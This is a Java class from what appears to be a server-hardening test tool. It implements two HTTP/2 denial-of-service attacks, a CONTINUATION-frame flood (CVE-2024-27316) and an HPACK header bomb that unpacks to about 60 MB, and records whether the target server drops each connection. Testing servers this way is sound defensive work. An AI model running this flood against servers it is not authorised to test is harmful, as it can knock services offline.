package dev.longrun.tools.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;

/**
 * Header blocks that don't end (CVE-2024-27316), and small ones that are large when unpacked. The
 * server must give up on each soon.
 */
final class HeaderFlood implements Attack {
  private static final int ROUNDS = 40;
  private static final int MOST_FRAMES = 4000;
  private static final int FRAME_BYTES = 16_000;

  @Override
  public String name() {
    return "16 HTTP/2: headers without an end, and headers that unpack to megabytes";
  }

  @Override
  public void run(Site site, Notes notes) throws IOException {
    int most = 0;
    for (int round = 0; round < ROUNDS; round++) {
      most = Math.max(most, continuations(site));
    }
    notes.check(most < MOST_FRAMES, "a connection ends after " + most + " continuations at most");
    int kept = 0;
    for (int round = 0; round < ROUNDS; round++) {
      kept += bomb(site) ? 1 : 0;
    }
    notes.check(kept == 0, kept + " of " + ROUNDS + " connections outlived a header of 60 MB");
  }

  private static int continuations(Site site) throws IOException {
    try (Http2 connection = new Http2(site.wire())) {
      byte[] begin = Http2.block(":method", "GET", ":scheme", "http", ":path", "/");
      connection.send(Http2.frame(Http2.HEADERS, Http2.END_STREAM, 1, begin));
      byte[] more = Http2.block("x", "y".repeat(FRAME_BYTES));
      int frames = 0;
      while (frames < MOST_FRAMES && connection.send(Http2.frame(Http2.CONTINUATION, 0, 1, more))) {
        frames++;
      }
      return frames;
    }
  }

  /** Whether the connection is still good after one header that is named again and again. */
  private static boolean bomb(Site site) throws IOException {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    block.writeBytes(
        Http2.block(":method", "GET", ":scheme", "http", ":path", "/", ":authority", "localhost"));
    block.write(0x40); // to be kept
    Http2.string(block, "x");
    Http2.string(block, "y".repeat(4000));
    for (int i = 0; i < 12_000; i++) {
      block.write(0xbe); // what was kept last
    }
    try (Http2 connection = new Http2(site.wire())) {
      connection.send(
          Http2.frame(Http2.HEADERS, Http2.END_HEADERS | Http2.END_STREAM, 1, block.toByteArray()));
      for (int i = 0; i < 50 && !connection.hasEnded(); i++) {
        Pause.millis(20);
      }
      return !connection.hasEnded();
    }
  }
}
